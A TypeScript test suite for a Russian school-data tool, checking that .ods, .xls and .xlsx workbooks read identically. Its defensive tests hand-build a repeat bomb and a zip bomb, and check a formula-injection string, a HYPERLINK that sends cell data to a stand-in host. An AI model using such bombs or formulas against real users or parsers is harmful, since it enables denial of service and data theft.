/**
 * .ods and .xls workbooks (issue 17): every file here is what LibreOffice really writes
 * (`soffice --convert-to ods|xls|xlsx`, tests/helpers/libreoffice.ts convertWithLibreOffice), and the
 * same workbook saved as .ods, .xls and .xlsx reads into the same grids, compared whole, and gives
 * the same identification. The content decides the format (an .xls that is HTML or CSV text is read
 * as what it is, or refused in Russian); a repeat bomb and a zip bomb in an .ods are refused with
 * exit 2; `--out результат.ods` writes a book LibreOffice opens with the same sheets and values.
 */
import * as fs from 'fs';
import * as path from 'path';
import * as zlib from 'zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { readSource } from '../../cli/commands/import';
import { readOdsBytes } from '../../formats/ods-bytes';
import { OdsContentReader, REPEAT_LIMIT } from '../../formats/ods-content';
import { odfParagraphs } from '../../cli/ods-write';
import { type BookFormat, detectFormat, readBookSheets } from '../../cli/workbook-read';
import { readXlsxSheets } from '../../cli/xlsx-stream';
import { SHEETS } from '../../shared/messages';
import type { Cell, Grid } from '../../shared/types';
import { convertWithLibreOffice, recalcToCsv, withLibreOffice } from '../helpers/libreoffice';
import { PAYLOADS, hostileTables } from '../helpers/hostile';
import { csvTables } from '../fakes/gas-region';
import { main } from '../../cli/main';
import { workbookFromTables } from '../../cli/xlsx';
import { fixture } from '../import-helpers';
import { DEMO_CSV, DEMO_XLSX, shnor, tempDir } from './run-cli';

const INPUT = [SHEETS.schools, SHEETS.results, SHEETS.social, SHEETS.settings];

/** A grid as JSON-comparable rows: dates as ISO text, trailing empty cells and rows left out (formats pad differently). */
function trimmed(grid: Grid): unknown[][] {
  const rows = grid.map((r) => {
    const cells = r.map((c) => (c instanceof Date ? `date:${c.toISOString()}` : c === undefined ? null : c));
    while (cells.length && (cells[cells.length - 1] === null)) cells.pop();
    return cells;
  });
  while (rows.length && rows[rows.length - 1].length === 0) rows.pop();
  return rows;
}

async function sheetsOf(file: string, merged: 'master' | 'blank' = 'master'): Promise<Map<string, unknown[][]>> {
  const format = detectFormat(file);
  const book = format === 'xlsx' ? { sheets: await readXlsxSheets(file) } : await readBookSheets(file, format, { merged });
  return new Map(book.sheets.map((s) => [s.name, trimmed(s.grid)]));
}

/** A workbook as officials' files come: merged title rows, codes with leading zeros, percentages, dates, text with spaces. */
async function trickyWorkbook(file: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Выгрузка');
  ws.addRow(['Результаты ВПР 2025 — Амурская область']);
  ws.mergeCells('A1:F1');
  ws.addRow(['Сформировано ФИС ОКО']);
  ws.mergeCells('A2:F2');
  ws.addRow(['Код ОО', 'Школа', 'Доля «2», %', 'Дата', 'Участников', 'Пояснение']);
  const rows: [string, string, number, Date, number, string][] = [
    ['007', 'МБОУ «СОШ № 7»', 0.25, new Date(Date.UTC(2025, 3, 5)), 31, 'два  пробела'],
    ['0100', 'МОАУ  «Лицей»', 0.125, new Date(Date.UTC(2024, 11, 31)), 12, 'строка 1\nстрока 2'],
    ['010014', 'Школа ё', 0, new Date(Date.UTC(2025, 0, 1)), 0, ' ведущий пробел'],
  ];
  for (const r of rows) ws.addRow(r);
  ws.getColumn(1).numFmt = '@';
  for (let r = 4; r <= 6; r++) {
    ws.getCell(r, 1).numFmt = '@';
    ws.getCell(r, 3).numFmt = '0.0%';
    ws.getCell(r, 4).numFmt = 'dd.mm.yyyy';
  }
  ws.mergeCells('B7:C8');
  ws.getCell('B7').value = 'объединено 2×2';
  ws.getCell('F9').value = true;
  ws.getCell('E9').value = { formula: 'SUM(E4:E6)', result: 43 } as ExcelJS.CellFormulaValue;
  const second = wb.addWorksheet('Второй лист');
  second.addRow(['Год', 2025]);
  wb.addWorksheet('Скрытый', { state: 'hidden' }).addRow(['не импортируется']);
  await wb.xlsx.writeFile(file);
}

const TRICKY_EXPECTED: unknown[][] = [
  // Merged title rows: the master's value in every merged cell (as exceljs reads a region book).
  ['Результаты ВПР 2025 — Амурская область', 'Результаты ВПР 2025 — Амурская область', 'Результаты ВПР 2025 — Амурская область',
    'Результаты ВПР 2025 — Амурская область', 'Результаты ВПР 2025 — Амурская область', 'Результаты ВПР 2025 — Амурская область'],
  ['Сформировано ФИС ОКО', 'Сформировано ФИС ОКО', 'Сформировано ФИС ОКО', 'Сформировано ФИС ОКО', 'Сформировано ФИС ОКО', 'Сформировано ФИС ОКО'],
  ['Код ОО', 'Школа', 'Доля «2», %', 'Дата', 'Участников', 'Пояснение'],
  ['007', 'МБОУ «СОШ № 7»', '25%', 'date:2025-04-05T00:00:00.000Z', 31, 'два  пробела'],
  ['0100', 'МОАУ  «Лицей»', '12.5%', 'date:2024-12-31T00:00:00.000Z', 12, 'строка 1\nстрока 2'],
  ['010014', 'Школа ё', '0%', 'date:2025-01-01T00:00:00.000Z', 0, ' ведущий пробел'],
  [null, 'объединено 2×2', 'объединено 2×2'],
  [null, 'объединено 2×2', 'объединено 2×2'],
  [null, null, null, null, 43, true],
];

withLibreOffice('.ods and .xls as LibreOffice saves them read as the same workbook saved as .xlsx', () => {
  const dir = tempDir('shnor-formats-');
  const demo: Partial<Record<'ods' | 'xls' | 'xlsx', string>> = {};
  let tricky = '';
  const trickyAs: Partial<Record<'ods' | 'xls' | 'xlsx', string>> = {};

  beforeAll(async () => {
    for (const to of ['ods', 'xls', 'xlsx'] as const) demo[to] = convertWithLibreOffice(DEMO_XLSX, to);
    tricky = path.join(dir, 'tricky.xlsx');
    await trickyWorkbook(tricky);
    for (const to of ['ods', 'xls', 'xlsx'] as const) trickyAs[to] = convertWithLibreOffice(tricky, to);
  }, 300000);

  test('the content decides the format, not the name', () => {
    expect(detectFormat(demo.ods!)).toBe('ods');
    expect(detectFormat(demo.xls!)).toBe('xls');
    expect(detectFormat(demo.xlsx!)).toBe('xlsx');
    const misnamed = path.join(dir, 'на-самом-деле-ods.xlsx');
    fs.copyFileSync(demo.ods!, misnamed);
    expect(detectFormat(misnamed)).toBe('ods');
    const html = path.join(dir, 'выгрузка.xls');
    fs.writeFileSync(html, '<html><body><table><tr><td>Код ОО</td></tr></table></body></html>');
    expect(detectFormat(html)).toBe<BookFormat>('html');
    const csv = path.join(dir, 'выгрузка-csv.xls');
    fs.writeFileSync(csv, '\uFEFFКод ОО;Название\r\n007;Школа\r\n');
    expect(detectFormat(csv)).toBe<BookFormat>('text');
  });

  test('the demo region: the four input sheets, compared whole, are the same from .xlsx, .ods and .xls', async () => {
    const fromXlsx = await sheetsOf(demo.xlsx!);
    const fromOds = await sheetsOf(demo.ods!);
    const fromXls = await sheetsOf(demo.xls!);
    // The committed demo (exceljs wrote it) reads the same as LibreOffice's .xlsx of it.
    const original = await sheetsOf(DEMO_XLSX);
    for (const name of INPUT) {
      expect(fromXlsx.get(name)!.length).toBeGreaterThan(1);
      expect({ name, grid: fromOds.get(name) }).toEqual({ name, grid: fromXlsx.get(name) });
      expect({ name, grid: fromXls.get(name) }).toEqual({ name, grid: fromXlsx.get(name) });
      expect({ name, grid: fromXlsx.get(name) }).toEqual({ name, grid: original.get(name) });
    }
    // Spot checks by hand: codes keep their leading zeros as text, results are numbers.
    const all = fromOds.get(SHEETS.schools)!;
    const head = all.findIndex((r) => r[0] === 'Код ОО');
    expect(head).toBeGreaterThanOrEqual(0);
    const schools = all.slice(head);
    expect(schools.length).toBe(301);
    expect(schools.slice(1).every((r) => typeof r[0] === 'string' && /^\d{6}$/.test(r[0] as string))).toBe(true);
    expect(schools.filter((r) => /^0/.test(String(r[0]))).length).toBeGreaterThan(100);
    expect(fromOds.get(SHEETS.settings)![1]).toEqual(['Год', 2025]);
  });

  test('the demo region: identify gives the same JSON whole from .xlsx, .ods and .xls', () => {
    const outs = (['xlsx', 'ods', 'xls'] as const).map((f) => {
      const out = path.join(dir, `demo-${f}.json`);
      const run = shnor(['identify', demo[f]!, '--format', 'json', '--out', out]);
      expect({ f, status: run.status, stderr: run.stderr.replace(/Предупреждения[^]*$/, '') }).toEqual({ f, status: 0, stderr: '' });
      return fs.readFileSync(out, 'utf8');
    });
    expect(outs[1]).toBe(outs[0]);
    expect(outs[2]).toBe(outs[0]);
    expect(JSON.parse(outs[0]).schools.length).toBe(300);
  }, 60000);

  test('merged title rows, text codes with leading zeros, percentages and dates: the same grid from every format, as written by hand', async () => {
    const byFormat = await Promise.all((['xlsx', 'ods', 'xls'] as const).map(async (f) => [f, await sheetsOf(trickyAs[f]!)] as const));
    for (const [f, sheets] of byFormat) {
      expect({ f, names: [...sheets.keys()] }).toEqual({ f, names: ['Выгрузка', 'Второй лист', 'Скрытый'] });
      expect({ f, grid: sheets.get('Выгрузка') }).toEqual({ f, grid: TRICKY_EXPECTED });
      expect({ f, grid: sheets.get('Второй лист') }).toEqual({ f, grid: [['Год', 2025]] });
    }
  });

  test('an import source: cells under a merge are empty, as Excel gives them, in every format', async () => {
    const expected = TRICKY_EXPECTED.map((r, i) => (i < 2 ? [r[0]] : i === 6 ? [null, r[1]] : i === 7 ? [] : r));
    for (const f of ['xlsx', 'ods', 'xls'] as const) {
      const sheets = await readSource(trickyAs[f]!);
      // Hidden sheets are not sources.
      expect({ f, names: sheets.map((x) => x.name) }).toEqual({ f, names: ['Выгрузка', 'Второй лист'] });
      expect({ f, grid: trimmed(sheets[0].grid) }).toEqual({ f, grid: expected });
    }
  });

  test('content.xml fed in chunks of any size reads the same as whole (tags and entities cut at chunk ends)', async () => {
    const xml = await (await JSZip.loadAsync(fs.readFileSync(trickyAs.ods!))).file('content.xml')!.async('string');
    const whole = new OdsContentReader();
    whole.write(xml);
    whole.end();
    for (const size of [1, 2, 3, 7, 19, 64, 997]) {
      const reader = new OdsContentReader();
      for (let i = 0; i < xml.length; i += size) reader.write(xml.slice(i, i + size));
      reader.end();
      expect({ size, sheets: reader.sheets }).toEqual({ size, sheets: whole.sheets });
    }
    expect(trimmed(whole.sheets[0].grid)).toEqual(TRICKY_EXPECTED);
  });

  test('an .ods from its bytes (what a browser page has: no Node API) reads as the command line reads the file', async () => {
    const fromFile = await readBookSheets(demo.ods!, 'ods', { merged: 'master' });
    const fromBytes = await readOdsBytes(new Uint8Array(fs.readFileSync(demo.ods!)), { merged: 'master' });
    expect(fromBytes.names).toEqual(fromFile.names);
    expect(fromBytes.sheets).toEqual(fromFile.sheets);
  });

  test('import vpr from an .ods and an .xls export (merged titles, two-row header) adds the same rows as from .xlsx', async () => {
    const results: unknown[][][] = [];
    for (const f of ['xlsx', 'ods', 'xls'] as const) {
      const source = convertWithLibreOffice(fixture('vpr-2025-4-matematika.xlsx'), f);
      const book = path.join(dir, `region-${f}.xlsx`);
      fs.copyFileSync(fixture('region.xlsx'), book);
      const run = shnor(['import', 'vpr', source, '--into', book]);
      expect({ f, status: run.status, err: run.stderr }).toEqual({ f, status: 0, err: '' });
      results.push((await sheetsOf(book)).get(SHEETS.results)!);
    }
    expect(results[0].length).toBeGreaterThan(1);
    expect(results[1]).toEqual(results[0]);
    expect(results[2]).toEqual(results[0]);
  }, 120000);

  test('import --into an .ods region book writes a new book beside it and leaves the .ods as it was', async () => {
    const odsBook = path.join(dir, 'регион.ods');
    fs.copyFileSync(convertWithLibreOffice(fixture('region.xlsx'), 'ods'), odsBook);
    const before = fs.readFileSync(odsBook);
    const run = shnor(['import', 'vpr', fixture('vpr-2025-4-matematika.xlsx'), '--into', odsBook]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/Книга «.*регион\.ods» не изменена; в «.*регион-импорт\.ods» — значения всех её листов/);
    expect(fs.readFileSync(odsBook).equals(before)).toBe(true);
    const viaXlsx = path.join(dir, 'region-x.xlsx');
    fs.copyFileSync(fixture('region.xlsx'), viaXlsx);
    expect(shnor(['import', 'vpr', fixture('vpr-2025-4-matematika.xlsx'), '--into', viaXlsx]).status).toBe(0);
    // The values of every sheet (merged cells as an import source sees them: the .ods book keeps values, not merges).
    const fromOds = await readSource(path.join(dir, 'регион-импорт.ods'));
    const fromXlsx = await readSource(viaXlsx);
    expect(fromOds.map((s) => s.name)).toEqual(fromXlsx.map((s) => s.name));
    fromXlsx.forEach((sheet, i) => expect({ name: sheet.name, grid: trimmed(fromOds[i].grid) }).toEqual({ name: sheet.name, grid: trimmed(sheet.grid) }));
  }, 120000);

  test('roadmap-status and template --input read .ods and .xls', () => {
    const ods = shnor(['template', 'school-roadmaps', '--input', demo.ods!, '--out', path.join(dir, 'school-ods.xlsx'), '--year', '2026']);
    const xls = shnor(['template', 'school-roadmaps', '--input', demo.xls!, '--out', path.join(dir, 'school-xls.xlsx'), '--year', '2026']);
    const xlsx = shnor(['template', 'school-roadmaps', '--input', demo.xlsx!, '--out', path.join(dir, 'school-xlsx.xlsx'), '--year', '2026']);
    expect(ods.status).toBe(0);
    expect(ods.stdout.replace(/school-ods/g, 'X')).toBe(xlsx.stdout.replace(/school-xlsx/g, 'X'));
    expect(xls.stdout.replace(/school-xls/g, 'X')).toBe(xlsx.stdout.replace(/school-xlsx/g, 'X'));
    const roadmapXlsx = path.join(dir, 'regional.xlsx');
    expect(shnor(['template', 'regional-roadmap', '--out', roadmapXlsx, '--year', '2026']).status).toBe(0);
    const asOds = convertWithLibreOffice(roadmapXlsx, 'ods');
    const asXls = convertWithLibreOffice(roadmapXlsx, 'xls');
    const status = (file: string) => shnor(['roadmap-status', file, '--date', '2026-04-05', '--format', 'json']);
    const a = status(convertWithLibreOffice(roadmapXlsx, 'xlsx'));
    expect(a.status).toBe(0);
    expect(status(asOds).stdout).toBe(a.stdout);
    expect(status(asXls).stdout).toBe(a.stdout);
  }, 180000);

  test('an .xls that is really HTML or CSV: an import reads it as what it is; a region book is refused in Russian', async () => {
    const html = path.join(dir, 'vpr-html.xls');
    fs.writeFileSync(html, '<html><head><meta charset="utf-8"></head><body><table><tr><td>Код ОО</td><td>Доля</td></tr><tr><td>007</td><td>12,5</td></tr></table></body></html>');
    expect(trimmed((await readSource(html))[0].grid)).toEqual([['Код ОО', 'Доля'], ['007', '12,5']]);
    const csv = path.join(dir, 'vpr-csv.xls');
    fs.writeFileSync(csv, '\uFEFFКод ОО;Доля\r\n007;12,5\r\n');
    expect(trimmed((await readSource(csv))[0].grid)).toEqual([['Код ОО', 'Доля'], ['007', '12,5']]);
    const asRegion = shnor(['identify', html]);
    expect(asRegion.status).toBe(2);
    expect(asRegion.stderr).toMatch(/^Файл «.*vpr-html\.xls» — не книга, а веб-страница \(HTML\) с расширением \.xls \(так выгружают некоторые системы\): в ней нет листов «Школы» и «Результаты»\. Откройте его в Excel, LibreOffice или Р7-Офис и сохраните как книгу/);
    const csvRegion = shnor(['identify', csv]);
    expect(csvRegion.status).toBe(2);
    expect(csvRegion.stderr).toMatch(/— не книга, а текст CSV\/TSV с расширением \.xls/);
  });

  test('--out результат.ods: LibreOffice opens it with the same sheets and values as the .xlsx output', async () => {
    const xlsxOut = path.join(dir, 'result.xlsx');
    const odsOut = path.join(dir, 'result.ods');
    expect(shnor(['identify', DEMO_XLSX, '--out', xlsxOut]).status).toBe(0);
    const run = shnor(['identify', DEMO_XLSX, '--out', odsOut]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/Книга с результатами: .*result\.ods/);
    expect(detectFormat(odsOut)).toBe('ods');
    const fromXlsx = await sheetsOf(xlsxOut);
    const names = [...fromXlsx.keys()];
    expect(names).toEqual([...INPUT, 'Идентификация 2025', 'Модель ИСБШ 2025', 'Свод 2025', 'Перечни 2025', 'Объективность 2025']);
    // Our reader on our .ods: the same values, exactly.
    const fromOds = await sheetsOf(odsOut);
    expect([...fromOds.keys()]).toEqual(names);
    for (const name of names) expect({ name, grid: fromOds.get(name) }).toEqual({ name, grid: fromXlsx.get(name) });
    // LibreOffice on our .ods: every sheet as CSV with full precision, against the .xlsx output's values
    // (cells under a merge empty, as LibreOffice exports them).
    const lo = recalcToCsv(odsOut, names);
    const blank = new Map((await readSource(xlsxOut)).map((s) => [s.name, trimmed(s.grid)]));
    for (const name of names) {
      const want = blank.get(name)!;
      const got = trimmed(lo.get(name)!);
      expect({ name, rows: got.length }).toEqual({ name, rows: want.length });
      want.forEach((row, r) => row.forEach((v, c) => {
        const text = (got[r]?.[c] ?? null) as Cell;
        if (typeof v === 'number') {
          const n = Number(String(text));
          if (Math.abs(n - v) > 1e-12 * Math.max(1, Math.abs(v))) throw new Error(`${name}!R${r + 1}C${c + 1}: ${String(text)} ≠ ${v}`);
        } else if (v !== null && String(text ?? '') !== String(v)) {
          throw new Error(`${name}!R${r + 1}C${c + 1}: «${String(text)}» ≠ «${String(v)}»`);
        }
      }));
    }
  }, 180000);

  test('report --recommendations рекомендации.ods: the same sheets and values as the .xlsx', async () => {
    const x = path.join(dir, 'rec.xlsx');
    const o = path.join(dir, 'rec.ods');
    expect(shnor(['report', demo.ods!, '--recommendations', x]).status).toBe(0);
    const run = shnor(['report', demo.ods!, '--recommendations', o]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/Рекомендации 2025.*rec\.ods/);
    const a = await sheetsOf(x);
    const b = await sheetsOf(o);
    expect([...b.keys()]).toEqual([...a.keys()]);
    for (const name of a.keys()) expect({ name, grid: b.get(name) }).toEqual({ name, grid: a.get(name) });
  }, 120000);

  test('--out результат.ods keeps the formats ODF allows: number formats, merged title, frozen header, filter, group colours', async () => {
    const odsOut = path.join(dir, 'result.ods');
    if (!fs.existsSync(odsOut)) expect(shnor(['identify', DEMO_XLSX, '--out', odsOut]).status).toBe(0);
    // LibreOffice reads our .ods and saves it as .xlsx: what it kept is there for exceljs to see.
    const back = new ExcelJS.Workbook();
    await back.xlsx.readFile(convertWithLibreOffice(odsOut, 'xlsx'));
    const ws = back.getWorksheet('Идентификация 2025')!;
    expect(ws.getCell('A1').isMerged).toBe(true);
    const header = ws.getRow(3).values as unknown[];
    const col = header.indexOf('Индекс качества');
    expect(col).toBeGreaterThan(0);
    expect(ws.getCell(4, col).numFmt).toBe('0.000');
    expect(ws.getRow(3).font?.bold ?? ws.getCell(3, 1).font?.bold).toBe(true);
    expect(ws.autoFilter).toBeTruthy();
    const cf = (ws as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings;
    expect(cf.length).toBeGreaterThan(0);
    const zip = await JSZip.loadAsync(fs.readFileSync(odsOut));
    // Frozen header rows live in settings.xml (view settings, which a headless conversion does not carry over): as LibreOffice writes them.
    const settings = await zip.file('settings.xml')!.async('string');
    expect(settings).toContain('<config:config-item-map-entry config:name="Идентификация 2025"><config:config-item config:name="HorizontalSplitMode" config:type="short">0</config:config-item>' +
      '<config:config-item config:name="VerticalSplitMode" config:type="short">2</config:config-item>');
    expect(settings).toContain('<config:config-item config:name="VerticalSplitPosition" config:type="int">3</config:config-item>');
    // Text from the data is never a formula in the .ods.
    const content = await zip.file('content.xml')!.async('string');
    expect(content).not.toMatch(/table:formula=/);
  }, 180000);
});

describe('.ods limits: a repeat bomb and a zip bomb are refused in Russian with exit 2', () => {
  const dir = tempDir('shnor-ods-bomb-');
  const content = (body: string) => '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>' +
    `${body}</office:spreadsheet></office:body></office:document-content>`;
  /** An .ods made by hand (a bomb is what LibreOffice never writes): mimetype stored first, content.xml deflated. */
  async function odsFile(file: string, xml: string): Promise<void> {
    const zip = new JSZip();
    zip.file('mimetype', 'application/vnd.oasis.opendocument.spreadsheet', { compression: 'STORE' });
    zip.file('META-INF/manifest.xml', '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>');
    zip.file('content.xml', xml);
    fs.writeFileSync(file, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
  }

  test('a few bytes of repeats that would make billions of cells', async () => {
    const file = path.join(dir, 'repeat-bomb.ods');
    await odsFile(file, content(`<table:table table:name="${SHEETS.results}"><table:table-row table:number-rows-repeated="1000000">` +
      '<table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"/></table:table-row></table:table>'));
    expect(fs.statSync(file).size).toBeLessThan(2000);
    const run = shnor(['identify', file, '--format', 'json']);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(new RegExp(`^Не удалось прочитать книгу «.*repeat-bomb\\.ods» \\(таблица OpenDocument \\(\\.ods\\)\\): Лист «Результаты»: повторы ячеек и строк .* дают больше ${REPEAT_LIMIT.toLocaleString('ru-RU')} ячеек`));
    expect(run.stderr).not.toMatch(/Внутренняя ошибка|\bat .*\.js:\d+/);
  });

  test('the same repeat bomb given as bytes (the browser path) is refused the same way', async () => {
    const file = path.join(dir, 'repeat-bomb-bytes.ods');
    await odsFile(file, content(`<table:table table:name="${SHEETS.results}"><table:table-row table:number-rows-repeated="1000000">` +
      '<table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"/></table:table-row></table:table>'));
    await expect(readOdsBytes(new Uint8Array(fs.readFileSync(file)))).rejects.toThrow(/Лист «Результаты»: повторы ячеек и строк .* дают больше/);
  });

  test('empty repeats as LibreOffice writes them (the rest of every row and sheet) make no cells', () => {
    const reader = new OdsContentReader();
    reader.write(content('<table:table table:name="Л"><table:table-row><table:table-cell office:value-type="string"><text:p>а</text:p></table:table-cell>' +
      '<table:table-cell table:number-columns-repeated="16383"/></table:table-row><table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>'));
    reader.end();
    expect(reader.sheets[0].grid).toEqual([['а']]);
  });

  test('values past the sheet size are refused', async () => {
    const file = path.join(dir, 'wide.ods');
    await odsFile(file, content(`<table:table table:name="${SHEETS.schools}"><table:table-row><table:table-cell table:number-columns-repeated="20000"/>` +
      '<table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>'));
    const run = shnor(['identify', file, '--format', 'json']);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/Лист «Школы»: значение в столбце 20\s001, а на листе не бывает больше 16\s384 столбцов/);
  });

  test('a content.xml that inflates past the limit is a zip bomb, refused before it is read', () => {
    // The central directory declares 1.5 GiB for content.xml (the part limit is 1 GiB).
    const file = path.join(dir, 'zip-bomb.ods');
    const parts: [string, Buffer, number, number][] = [];
    const mime = Buffer.from('application/vnd.oasis.opendocument.spreadsheet');
    parts.push(['mimetype', mime, mime.length, 0]);
    const xml = zlib.deflateRawSync(Buffer.from(content('')));
    parts.push(['content.xml', xml, 1536 * 1024 * 1024, 8]);
    const locals: Buffer[] = [];
    const central: Buffer[] = [];
    let offset = 0;
    for (const [nameText, data, size, method] of parts) {
      const name = Buffer.from(nameText);
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(method, 8);
      local.writeUInt32LE(data.length, 18);
      local.writeUInt32LE(size, 22);
      local.writeUInt16LE(name.length, 26);
      const cd = Buffer.alloc(46);
      cd.writeUInt32LE(0x02014b50, 0);
      cd.writeUInt16LE(20, 4);
      cd.writeUInt16LE(20, 6);
      cd.writeUInt16LE(method, 10);
      cd.writeUInt32LE(data.length, 20);
      cd.writeUInt32LE(size, 24);
      cd.writeUInt16LE(name.length, 28);
      cd.writeUInt32LE(offset, 42);
      locals.push(local, name, data);
      central.push(cd, name);
      offset += 30 + name.length + data.length;
    }
    const cdBuf = Buffer.concat(central);
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    end.writeUInt16LE(parts.length, 8);
    end.writeUInt16LE(parts.length, 10);
    end.writeUInt32LE(cdBuf.length, 12);
    end.writeUInt32LE(offset, 16);
    fs.writeFileSync(file, Buffer.concat([...locals, cdBuf, end]));
    expect(detectFormat(file)).toBe('ods');
    const run = shnor(['identify', file, '--format', 'json']);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/Часть таблицы «content\.xml» в распакованном виде занимает 1,5\sГБ, а предел — 1\sГБ .*zip-бомба/);
  });
});

describe('.ods text as ODF writes it', () => {
  test('spaces, tabs and lines survive the writer and the reader', () => {
    const texts = ['два  пробела', ' ведущий', 'строка 1\nстрока 2', 'таб\tтаб', 'a & b < c > "d"', 'конец  '];
    const reader = new OdsContentReader();
    reader.write('<office:document-content><office:body><office:spreadsheet><table:table table:name="Т">' +
      texts.map((t) => `<table:table-row><table:table-cell office:value-type="string">${odfParagraphs(t)}</table:table-cell></table:table-row>`).join('') +
      '</table:table></office:spreadsheet></office:body></office:document-content>');
    reader.end();
    expect(reader.sheets[0].grid).toEqual(texts.map((t) => [t]));
  });
});

describe('the readers a browser page can use have no Node API', () => {
  test('formats/book-format.ts, formats/ods-bytes.ts, formats/ods-content.ts, formats/xml-tokens.ts and formats/xls-read.ts (with formats/zip-limits.ts) import only each other, shared/ and SheetJS', () => {
    const pure = ['book-format.ts', 'ods-bytes.ts', 'ods-content.ts', 'xml-tokens.ts', 'xls-read.ts', 'zip-limits.ts'];
    for (const file of pure) {
      const text = fs.readFileSync(path.join(__dirname, '..', '..', 'formats', file), 'utf8');
      const specifiers = [...text.matchAll(/(?:from|require\()\s*'([^']+)'/g)].map((m) => m[1]);
      const bad = specifiers.filter((s) => !(s === '@e965/xlsx' || s.startsWith('../shared/') || pure.includes(`${s.replace(/^\.\//, '')}.ts`)));
      expect({ file, bad }).toEqual({ file, bad: [] });
      expect({ file, node: /\b(Buffer|process|__dirname)\b/.test(text.replace(/\/\*[^]*?\*\/|\/\/.*$/gm, '')) }).toEqual({ file, node: false });
    }
  });
});

describe('--out результат.ods: text from the data never becomes a formula', () => {
  test('hostile text in every text column: strings in content.xml, no table:formula, read back as typed, «@» kept as a text data style', async () => {
    const dir = tempDir('shnor-ods-hostile-');
    const input = path.join(dir, 'region.xlsx');
    await workbookFromTables(hostileTables(csvTables(DEMO_CSV))).xlsx.writeFile(input);
    const out = path.join(dir, 'result.ods');
    const quiet = { stdout: () => undefined, stderr: () => undefined, isTTY: false };
    expect(await main(['identify', input, '--out', out], quiet)).toBe(0);
    const zip = await JSZip.loadAsync(fs.readFileSync(out));
    const content = await zip.file('content.xml')!.async('string');
    expect(content).not.toMatch(/table:formula=/);
    const styles = await zip.file('styles.xml')!.async('string');
    expect(styles).toMatch(/<number:text-style style:name="N\d+"><number:text-content\/><\/number:text-style>/);
    const texts = new Set<string>();
    for (const sheet of (await readBookSheets(out, 'ods')).sheets) for (const row of sheet.grid) for (const c of row) if (typeof c === 'string') texts.add(c);
    for (const p of PAYLOADS) expect(texts.has(p)).toBe(true);
    expect(texts.has('=HYPERLINK("http://x"&A1,"y")0')).toBe(true);
  });
});
